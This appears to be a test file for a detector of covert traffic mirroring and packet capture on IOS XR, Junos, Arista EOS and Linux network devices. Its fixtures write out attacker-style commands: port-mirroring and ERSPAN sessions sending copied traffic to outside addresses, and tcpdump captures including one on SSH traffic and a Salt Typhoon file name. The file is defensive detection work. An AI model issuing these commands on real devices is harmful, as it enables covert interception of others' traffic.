// Routers and switches beyond Cisco IOS, as a user meets them: `capwatch replay --json` over IOS XR, Junos, Arista
// EOS and Linux-based NOS logs (fixtures/logs, each naming its source), and the same lines through the live ingest
// path to see what the device state believes is copying traffic. IOS XR and Junos edit a candidate configuration:
// a mirror configured there copies nothing until a commit, and one rolled back or deleted before it never did.
import { spawnSync } from 'node:child_process';
import { join, resolve } from 'node:path';
import { pino } from 'pino';
import { describe, expect, it } from 'vitest';
import { buildDetection } from '../src/app.js';
import { buildConfig } from '../src/config.js';
import { Metrics } from '../src/metrics.js';
import type { Detection } from '../src/types.js';
import { logLine, logLines } from './helpers/fixture-lines.js';
import { CLI } from './helpers/service.js';

const FIXTURES = resolve(import.meta.dirname, '../fixtures/logs');

interface ReplayedDetection {
  rule: string;
  kind: string;
  severity: string;
  device: string;
  platform?: string;
  user?: string;
  command: string;
  facts: Record<string, string>;
  tradecraft: string[];
  why: string;
}

function replayRun(args: string[], input?: string): { detections: ReplayedDetection[]; summary: string } {
  const r = spawnSync(process.execPath, [CLI, 'replay', '--json', ...args], { input, encoding: 'utf8', timeout: 20_000 });
  expect(r.status, r.stderr).toBe(0);
  const detections = r.stdout
    .split('\n')
    .filter((l) => l !== '')
    .map((l) => JSON.parse(l) as ReplayedDetection);
  return { detections, summary: r.stderr };
}

const replay = (args: string[], input?: string) => replayRun(args, input).detections;

/** The lines are read as commands (so the parsers know them) and none is a detection. */
function expectQuiet(lines: readonly string[]): void {
  const r = replayRun(['-'], `${lines.join('\n')}\n`);
  expect(r.summary).toContain(`${lines.length} commands, 0 detections`);
  expect(r.detections).toEqual([]);
}

const replayFixture = (name: string) => replay([join(FIXTURES, name)]);
/** Each detection as [command, kind, severity]: what an analyst reads first. */
const summary = (ds: ReplayedDetection[]) => ds.map((d) => [d.command, d.kind, d.severity]);
const commands = (ds: ReplayedDetection[]) => ds.map((d) => d.command);

/** The live pipeline (the one `serve` and `replay` build) with its mirror state in reach. */
function pipeline() {
  const metrics = new Metrics();
  const detections: Detection[] = [];
  const { ingest, detector } = buildDetection(buildConfig({}), metrics, pino({ level: 'silent' }), (d) => detections.push(...d));
  let now = Date.parse('2026-12-04T12:00:00Z');
  return {
    detections,
    /** Feeds lines as `sender` would send them; returns the detections they gave. */
    send(lines: readonly string[], sender = '192.0.2.1'): Detection[] {
      const before = detections.length;
      for (const l of lines) ingest.line(l, sender, 'replay', (now += 1000));
      return detections.slice(before);
    },
    active: (device: string, session: string) => detector.state.get(device)?.sessions.get(session),
    pending: (device: string, session: string) => detector.state.candidate(device)?.sessions.get(session),
    close: () => metrics.registry.clear(),
  };
}

describe('IOS XR: a monitor-session over TACACS+ accounting, made active by its commit', () => {
  const FILE = 'iosxr-mirror-commit.log';
  const lines = logLines(FILE);
  const commitAt = lines.findIndex((l) => l.includes('%MGBL-CONFIG-6-DB_COMMIT'));

  it('replay reports the session, its destination, the interface attach and the commit that made them take effect', () => {
    const ds = replayFixture(FILE);
    expect(summary(ds)).toEqual([
      ['monitor-session 1 ethernet', 'span', 'low'],
      ['destination interface tunnel-ip1', 'span', 'medium'],
      ['monitor-session 1 ethernet direction rx-only port-level', 'span', 'high'],
      ["Configuration committed by user 'eve'. Use 'show configuration commit changes 1000000421' to view the changes.", 'span', 'high'],
      ['run tcpdump -i Te0_0_0_0 -w /harddisk:/tac.pcap', 'capture', 'critical'],
    ]);
    expect(ds.slice(0, 3).every((d) => d.why.endsWith('Until a commit it is only a candidate change.'))).toBe(true);
    const commit = ds[3]!;
    expect(commit.user).toBe('eve');
    expect(commit.facts).toMatchObject({ committed: 'session 1 created', session: '1', interfaces: 'TenGigE0/0/0/0' });
    expect(commit.why).toBe('A commit on 192.0.2.1 made the waiting capture and mirror changes take effect (session 1 created): mirror session 1 now copies traffic.');
    // run tcpdump from the XR shell, writing the file name Salt Typhoon used
    expect(ds[4]!.facts).toEqual({ interfaces: 'Te0_0_0_0', file: '/harddisk:/tac.pcap' });
    expect(ds[4]!.tradecraft).toEqual(['capture file name used by Salt Typhoon (tac.pcap)']);
  });

  it('XR monitor interface (interface statistics) is no detection', () => {
    expect(commands(replayFixture(FILE))).not.toContain('monitor interface TenGigE0/0/0/0');
    expectQuiet([logLine(FILE, 'cmd=monitor interface ')]);
  });

  it('the session copies traffic only from the commit on: until then it is the candidate', () => {
    const p = pipeline();
    p.send(lines.slice(0, commitAt));
    expect(p.active('192.0.2.1', '1')).toBeUndefined();
    expect(p.pending('192.0.2.1', '1')).toMatchObject({ sources: ['TenGigE0/0/0/0'], destinations: ['tunnel-ip1'], active: true });

    expect(p.send([lines[commitAt]!]).map((d) => d.facts.committed)).toEqual(['session 1 created']);
    expect(p.active('192.0.2.1', '1')).toMatchObject({ sources: ['TenGigE0/0/0/0'], destinations: ['tunnel-ip1'], active: true });
    expect(p.pending('192.0.2.1', '1')).toBeUndefined();
    // The same commit seen again (its accounting record after the log line) changes nothing, so it says nothing.
    expect(p.send([lines[commitAt]!])).toEqual([]);
    p.close();
  });

  it('a commit with no mirror change waiting is no detection', () => {
    const p = pipeline();
    expect(p.send([lines[commitAt]!])).toEqual([]);
    p.close();
  });
});

describe('Junos: port-mirroring and analyzers through interactive-commands, the commit and the rollback', () => {
  const FILE = 'junos-mirror-commit.log';
  const lines = logLines(FILE);
  const DEV = 'MX-BP-02-06';
  // Synthesised in the shape of the fixture's own UI_CMDLINE_READ_LINE lines (copied from junos-mx-interactive-cli.log):
  // a Junos user typing `command` at the top level.
  const typed = (user: string, command: string) => `Apr 29 17:10:00 ${DEV} mgd[70200]: UI_CMDLINE_READ_LINE: User '${user}', command '${command} '`;

  it('replay reports the port-mirroring instance to a next hop, its commit, monitor traffic to a file, and the rolled-back analyzer', () => {
    const ds = replayFixture(FILE);
    expect(summary(ds)).toEqual([
      // typed as `set instance pm1 …` at [edit forwarding-options port-mirroring]: rebuilt into the whole statement
      ['set forwarding-options port-mirroring instance pm1 family inet output interface ge-0/0/3.0 next-hop 192.0.2.5', 'erspan', 'critical'],
      ['commit synchronize and-quit', 'erspan', 'critical'],
      ['monitor traffic interface ge-0/0/0 write-file /var/tmp/x.pcap', 'capture', 'high'],
      ['set forwarding-options analyzer A1 input ingress interface ge-0/0/1.0', 'span', 'medium'],
      ['set forwarding-options analyzer A1 output ip-address 198.51.100.7', 'erspan', 'critical'],
      ['rollback 0', 'removal', 'low'],
    ]);
    expect(ds.every((d) => d.device === DEV && d.platform === 'junos')).toBe(true);
    expect(ds[0]!.facts).toEqual({ sessionType: 'port-mirroring', session: 'pm1', interfaces: 'ge-0/0/3.0', destinationIp: '192.0.2.5' });
    // One commit, detected once: the typed `commit`, UI_COMMIT and UI_COMMIT_COMPLETED all follow it.
    expect(ds[1]!.facts).toMatchObject({ committed: 'session pm1 created', destinationIp: '192.0.2.5' });
    expect(ds[1]!.why).toContain('mirror session pm1 now copies traffic to 192.0.2.5, outside the approved collector networks');
    expect(ds[2]!.facts).toEqual({ interfaces: 'ge-0/0/0', file: '/var/tmp/x.pcap' });
    expect(ds[5]!.user).toBe('mallory');
    expect(ds[5]!.facts.discarded).toBe('session A1 created');
    expect(ds[5]!.why).toContain('were thrown away before any commit: they never took effect');
  });

  it('monitor interface (statistics) and monitor start messages (a log tail) are no detections', () => {
    const quiet = ['monitor interface ge-0/0/0', 'monitor start messages'];
    expect(commands(replayFixture(FILE)).filter((c) => /^monitor (interface|start)/.test(c))).toEqual([]);
    expectQuiet(quiet.map((c) => logLine(FILE, `command '${c} '`)));
  });

  it('the port-mirroring instance is active only after the commit; the rolled-back analyzer never is', () => {
    const p = pipeline();
    const commitTyped = lines.findIndex((l) => l.includes("command 'commit synchronize"));
    p.send(lines.slice(0, commitTyped));
    expect(p.active(DEV, 'pm1')).toBeUndefined();
    expect(p.pending(DEV, 'pm1')).toMatchObject({ type: 'port-mirroring', destinationIp: '192.0.2.5' });
    p.send(lines.slice(commitTyped, commitTyped + 3));
    expect(p.active(DEV, 'pm1')).toMatchObject({ type: 'port-mirroring', destinationIp: '192.0.2.5', active: true });

    const rollback = lines.findIndex((l) => l.includes("command 'rollback 0"));
    p.send(lines.slice(commitTyped + 3, rollback));
    expect(p.pending(DEV, 'A1')).toMatchObject({ sources: ['ge-0/0/1.0'], destinationIp: '198.51.100.7', active: true });
    p.send(lines.slice(rollback));
    expect(p.active(DEV, 'A1')).toBeUndefined();
    expect(p.pending(DEV, 'A1')).toBeUndefined();
    // A later commit has nothing of A1 to make active.
    expect(p.send([typed('mallory', 'commit')])).toEqual([]);
    expect(p.active(DEV, 'A1')).toBeUndefined();
    expect(p.active(DEV, 'pm1')?.active).toBe(true);
    p.close();
  });

  it('tcpdump through start shell command and monitor traffic from configuration mode are captures; reading a saved file is not', () => {
    const p = pipeline();
    const got = p.send([
      typed('eve', 'start shell command "tcpdump -i em0 -w /var/tmp/a.pcap"'),
      typed('eve', 'run monitor traffic interface ge-0/0/0'),
      typed('eve', 'monitor traffic interface ge-0/0/0 read-file /var/tmp/a.pcap'),
      typed('eve', 'start shell user root'),
    ]);
    expect(got.map((d) => [d.event.command, d.kind, d.facts.interfaces])).toEqual([
      ['start shell command "tcpdump -i em0 -w /var/tmp/a.pcap"', 'capture', 'em0'],
      ['run monitor traffic interface ge-0/0/0', 'capture', 'ge-0/0/0'],
    ]);
    p.close();
  });

  it('an analyzer deleted before the commit is not a mirror; deleting a committed one takes effect at the next commit', () => {
    const p = pipeline();
    p.send([
      typed('mallory', 'set forwarding-options analyzer A1 input ingress interface ge-0/0/1.0'),
      typed('mallory', 'set forwarding-options analyzer A1 output ip-address 198.51.100.7'),
      typed('mallory', 'delete forwarding-options analyzer A1'),
    ]);
    expect(p.send([typed('mallory', 'commit')])).toEqual([]);
    expect(p.active(DEV, 'A1')).toBeUndefined();

    p.send([typed('mallory', 'set forwarding-options analyzer A2 input ingress interface ge-0/0/1.0'), typed('mallory', 'set forwarding-options analyzer A2 output ip-address 198.51.100.7')]);
    expect(p.send([typed('mallory', 'commit')]).map((d) => [d.kind, d.severity, d.facts.committed])).toEqual([['erspan', 'critical', 'session A2 created']]);
    expect(p.active(DEV, 'A2')?.active).toBe(true);
    const deleted = p.send([typed('mallory', 'delete forwarding-options analyzer A2')]);
    expect(deleted.map((d) => d.kind)).toEqual(['removal']);
    expect(p.active(DEV, 'A2')?.active).toBe(true); // still copying: the delete is only a candidate change
    expect(p.send([typed('mallory', 'commit')]).map((d) => [d.kind, d.facts.committed])).toEqual([['removal', 'session A2 removed']]);
    expect(p.active(DEV, 'A2')).toBeUndefined();
    p.close();
  });
});

describe('Arista EOS: monitor sessions in command accounting', () => {
  const FILE = 'eos-mirror-accounting.log';

  it('replay reports the source, the GRE tunnel to a remote address and tcpdump from bash; monitor connectivity is quiet', () => {
    const ds = replayFixture(FILE);
    expect(summary(ds)).toEqual([
      ['monitor session ERSPAN source Ethernet1 rx', 'span', 'medium'],
      ['monitor session ERSPAN destination tunnel mode gre source 10.1.1.1 destination 10.2.2.2', 'erspan', 'critical'],
      ['bash sudo tcpdump -i et1 -w /mnt/flash/eth1_capture.pcap', 'capture', 'high'],
    ]);
    expect(ds.every((d) => d.device === 'leaf1' && d.platform === 'eos' && d.user === 'eve')).toBe(true);
    expect(ds[1]!.facts).toEqual({ session: 'ERSPAN', originIp: '10.1.1.1', destinationIp: '10.2.2.2' });
    expect(commands(ds)).not.toContain('monitor connectivity');
    expectQuiet([logLine(FILE, 'cmd=monitor connectivity')]);
  });

  it('EOS has no candidate: the session copies traffic as soon as it has a source and a GRE destination', () => {
    const p = pipeline();
    const lines = logLines(FILE);
    p.send(lines.slice(0, 3));
    expect(p.active('leaf1', 'ERSPAN')).toMatchObject({ sources: ['Ethernet1'], active: false });
    p.send(lines.slice(3, 4));
    expect(p.active('leaf1', 'ERSPAN')).toMatchObject({ sources: ['Ethernet1'], destinationIp: '10.2.2.2', active: true });
    expect(p.pending('leaf1', 'ERSPAN')).toBeUndefined();
    p.close();
  });
});

describe('Linux-based network OSes: sudo tcpdump in auth.log', () => {
  it('each sudo tcpdump is a capture by that user; the PAM and promiscuous-mode lines around it are not', () => {
    const ds = replayFixture('linux-nos-sudo.log');
    expect(ds.map((d) => [d.device, d.user, d.command, d.kind, d.severity])).toEqual([
      ['doug-64', 'doug', '/usr/sbin/tcpdump -n -tttt -i eth0 port 22', 'capture', 'critical'],
      ['gpu1', 'lnsoft', '/usr/sbin/tcpdump -i br-b1a37228308c', 'capture', 'high'],
    ]);
    // a capture aimed at SSH is raised for what it can read
    expect(ds[0]!.tradecraft).toEqual(['capture targets SSH (TCP 22)']);
  });
});

describe('the example lines a new user tried', () => {
  // As written in the report: Junos lines without their syslog header, an EOS accounting command (here in the
  // fixture's accounting line shape, synthesised).
  const JUNOS = [
    "mgd[1234]: UI_CMDLINE_READ_LINE: User 'eve', command 'set forwarding-options port-mirroring instance pm1 family inet output interface ge-0/0/3.0 next-hop 192.0.2.5 '",
    "mgd[1234]: UI_CMDLINE_READ_LINE: User 'eve', command 'monitor traffic interface ge-0/0/0 write-file /var/tmp/x.pcap '",
  ];
  const EOS = logLine('eos-mirror-accounting.log', 'tunnel mode gre').replace(
    /cmd=.*$/,
    'cmd=monitor session s1 destination tunnel mode gre source 10.0.0.1 destination 198.51.100.7 ',
  );

  it('each gives a detection', () => {
    const ds = replay(['-'], `${[...JUNOS, EOS].join('\n')}\n`);
    expect(ds.map((d) => [d.user, d.kind, d.severity, d.facts.destinationIp ?? d.facts.file])).toEqual([
      ['eve', 'erspan', 'critical', '192.0.2.5'],
      ['eve', 'capture', 'high', '/var/tmp/x.pcap'],
      ['eve', 'erspan', 'critical', '198.51.100.7'],
    ]);
  });
});
